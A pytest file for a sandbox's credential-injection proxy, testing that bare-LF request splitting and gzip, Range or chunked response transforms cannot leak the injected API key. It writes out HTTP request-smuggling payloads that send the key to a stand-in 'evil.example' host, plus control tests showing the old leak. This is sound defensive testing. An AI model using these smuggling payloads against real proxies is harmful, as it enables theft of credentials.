"""Issue 9, findings 7 and 8: the sandbox must not shape the request that carries the key,
nor choose a response transform that hides the key from the echo mask.

Real sandboxes (the runtime's ``Sandbox``) talk to the injection endpoint; the upstream is a
plain-HTTP server on loopback (``tls = false``, allowed there only), lenient like Python's
http.server, Go's textproto or nginx: it reads a bare LF as a line end and serves pipelined
requests. Each attack has a control that replays what the proxy forwarded before the fix
(the sandbox's bytes relayed between its own ``Host`` and the key) to the same upstream, or
that shows the old literal mask missing the transformed key.
"""

from __future__ import annotations

import gzip
import http.server
import secrets
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bwsandbox.net._http1 import Chunked, Scrubber

from .conftest import LenientServer
from .test_secret_inject import HOST, _policy, _run

pytestmark = [pytest.mark.bwrap, pytest.mark.userns, pytest.mark.netns]

#: the repro from the issue, and its variant where the key line becomes a body the sandbox chose
SPLIT = (
    b"GET /a HTTP/1.1\r\nX-A: a\nContent-Length: 0\n\nGET /a2 HTTP/1.1\nHost: evil.example\r\n\r\n"
)
AS_BODY = (
    b"GET /a HTTP/1.1\r\nX-A: a\nContent-Length: 0\n\n"
    b"POST /steal HTTP/1.1\nHost: evil.example\nContent-Length: 87\n\r\n\r\n"
)  # 87: "Authorization: Bearer <42-byte key>" and "Connection: close" with their line ends

_SEND = r"""
import os, socket, sys
host = os.environ["ECHO_URL"].removeprefix("http://")
for payload in sys.argv[1:]:
    s = socket.create_connection((host, 80), timeout=10)
    s.sendall(payload.encode("latin-1").decode("unicode_escape").encode("latin-1"))
    s.settimeout(3)
    out = b""
    try:
        while chunk := s.recv(65536):
            out += chunk
    except OSError:
        pass
    print("REPLY", out.split(b"\r\n")[0].decode(errors="replace"))
"""


def _secret(port: int) -> dict[str, Any]:
    return {
        "source": "env:TEST_ANTHROPIC_KEY",
        "host": HOST,
        "port": port,
        "tls": False,
        "base_url_env": "ECHO_URL",
    }


def _escaped(payload: bytes) -> str:
    return payload.decode("latin-1").encode("unicode_escape").decode("ascii")


def _old_forward(payload: bytes, authority: str, key: str) -> bytes:
    """What the injector forwarded before the fix: the head split on CRLF only, the
    sandbox's lines relayed between its own Host and the key line."""
    head, _, rest = payload.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    kept = [line for line in lines[1:] if not line.lower().startswith("host:")]
    out = [lines[0], f"Host: {authority}", *kept, f"Authorization: Bearer {key}"]
    return ("\r\n".join([*out, "Connection: close"]) + "\r\n\r\n").encode("latin-1") + rest


@pytest.mark.parametrize("payload", [SPLIT, AS_BODY], ids=["second-request", "key-as-body"])
def test_a_bare_lf_cannot_make_the_key_leave_with_another_request(
    tmp_path: Path, lenient: LenientServer, payload: bytes
) -> None:
    port = lenient.server_address[1]
    key = "sk-inject-" + secrets.token_hex(16)
    project = tmp_path / "project"
    project.mkdir()
    (project / "send.py").write_text(_SEND)
    script = f"python3 send.py '{_escaped(payload)}'"
    code, output, audit = _run(_policy(_secret(port), port), project, key, script)
    text = output.decode(errors="replace")
    assert code == 0, text
    assert "REPLY HTTP/1.1 400" in text, text
    assert lenient.seen == [], lenient.seen  # nothing reached the upstream at all
    assert key not in text
    refusals = [e for e in audit.events if e["event"] == "net" and e.get("proto") == "inject"]
    assert any(e["decision"] == "deny" for e in refusals), refusals


@pytest.mark.parametrize("payload", [SPLIT, AS_BODY], ids=["second-request", "key-as-body"])
def test_control_the_old_forwarding_leaks_the_key(lenient: LenientServer, payload: bytes) -> None:
    port = lenient.server_address[1]
    key = "sk-inject-" + secrets.token_hex(16)
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(_old_forward(payload, f"{HOST}:{port}", key))
        sock.settimeout(2)
        deadline = time.monotonic() + 10
        while len(lenient.seen) < 2 and time.monotonic() < deadline:
            time.sleep(0.02)  # the lenient upstream keeps the connection open
    leaked = [
        (headers.get("Host"), headers, body)
        for _, _, headers, body in lenient.seen
        if key in str(headers) or key.encode() in body
    ]
    assert any(host == "evil.example" for host, _, _ in leaked), lenient.seen


_GOOD = r"""
import os, socket
host = os.environ["ECHO_URL"].removeprefix("http://")
s = socket.create_connection((host, 80), timeout=10)
s.sendall(b"POST /v1/x HTTP/1.1\r\nHost: evil.example\r\nX-Stainless-Lang: python\r\n"
          b"Range: bytes=0-3\r\nCookie: a=b\r\nAccept-Encoding: gzip\r\nTE: trailers\r\n"
          b"Content-Length: 5\r\n\r\nhello")
print(s.makefile("rb").readline().decode().strip())
"""


def test_the_injected_head_is_rebuilt_from_the_allowlist(
    tmp_path: Path, lenient: LenientServer
) -> None:
    port = lenient.server_address[1]
    key = "sk-inject-" + secrets.token_hex(16)
    project = tmp_path / "project"
    project.mkdir()
    (project / "good.py").write_text(_GOOD)
    code, output, audit = _run(_policy(_secret(port), port), project, key, "python3 good.py")
    assert code == 0, output
    assert b"HTTP/1.1 200" in output
    [(method, path, headers, body)] = lenient.seen
    assert (method, path, body) == ("POST", "/v1/x", b"hello")
    assert headers["Host"] == f"{HOST}:{port}"
    assert headers["Authorization"] == f"Bearer {key}"
    assert headers["Accept-Encoding"] == "identity"
    assert headers["X-Stainless-Lang"] == "python"
    assert not {"Range", "Cookie", "TE"} & set(headers)
    [event] = [e for e in audit.events if e["event"] == "net" and e.get("proto") == "inject"]
    assert event["dropped_headers"] == ["accept-encoding", "cookie", "range", "te"]


# -- finding 8: transforms ---------------------------------------------------------------
class _Transforming(http.server.BaseHTTPRequestHandler):
    """Echoes the request headers, and honours gzip, Range and chunked like real servers."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        body = ("echo: " + str(self.headers)).encode() * 2
        ranged = self.headers.get("Range", "")
        status = 200
        if ranged.startswith("bytes="):
            start, _, end = ranged[6:].partition("-")
            body = body[int(start) : int(end) + 1 if end else None]
            status = 206
        self.send_response(status)
        if "gzip" in self.headers.get("Accept-Encoding", ""):
            body = gzip.compress(body)
            self.send_header("Content-Encoding", "gzip")
        if self.path == "/chunked":
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for at in range(0, len(body), 7):  # the key is cut by the framing
                piece = body[at : at + 7]
                self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
            self.wfile.write(b"0\r\n\r\n")
        else:
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        self.close_connection = True

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
        return


@pytest.fixture
def transforming() -> Iterator[int]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Transforming)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield int(server.server_address[1])
    server.shutdown()
    server.server_close()


_TRANSFORMS = r"""
import gzip, os, urllib.request
base = os.environ["ECHO_URL"]
def get(path, **headers):
    request = urllib.request.Request(base + path, headers=headers)
    with urllib.request.urlopen(request, timeout=10) as response:
        body = response.read()  # urllib undoes the chunked framing
        if response.headers.get("Content-Encoding") == "gzip":
            body = gzip.decompress(body)
        return body
print("GZIP", get("/echo", **{"Accept-Encoding": "gzip"}))
parts = [get("/echo", Range=f"bytes={a}-{b}") for a, b in ((0, 49), (50, ""))]
print("RANGE", b"".join(parts))
print("CHUNKED", get("/chunked"))
"""


def test_the_sandbox_cannot_choose_a_transform_that_hides_the_key(
    tmp_path: Path, transforming: int
) -> None:
    port = transforming
    key = "sk-inject-" + secrets.token_hex(16)
    project = tmp_path / "project"
    project.mkdir()
    (project / "t.py").write_text(_TRANSFORMS)
    code, output, _ = _run(_policy(_secret(port), port), project, key, "python3 t.py")
    text = output.decode(errors="replace")
    assert code == 0, text
    for label in ("GZIP", "RANGE", "CHUNKED"):
        assert f"{label} b'echo: " in text, text
    assert "Bearer " + "*" * len(key) in text  # the echoes came back, masked
    assert key not in text


def test_control_transforms_defeat_a_literal_mask(transforming: int) -> None:
    """Control: the same server, asked with the sandbox's headers, returns the key in forms
    the literal mask of the raw stream does not find (the old scrubbing)."""
    key = "sk-inject-" + secrets.token_hex(16)

    def raw(path: str, extra: str = "") -> bytes:
        with socket.create_connection(("127.0.0.1", transforming), timeout=10) as sock:
            head = f"GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
            sock.sendall(f"{head}{extra}\r\n".encode())
            out = b""
            while chunk := sock.recv(65536):
                out += chunk
        scrubber = Scrubber([key.encode()])
        return scrubber.feed(out) + scrubber.flush()

    compressed = raw("/echo", "Accept-Encoding: gzip\r\n").partition(b"\r\n\r\n")[2]
    assert key.encode() in gzip.decompress(compressed)
    pieces = [
        raw("/echo", f"Range: bytes={r}\r\n").partition(b"\r\n\r\n")[2] for r in ("0-49", "50-")
    ]
    assert key.encode() not in pieces[0] + b"|" + pieces[1]
    assert key.encode() in pieces[0] + pieces[1]
    chunked = raw("/chunked").partition(b"\r\n\r\n")[2]
    assert key.encode() in b"".join(Chunked().feed(chunked)[1])
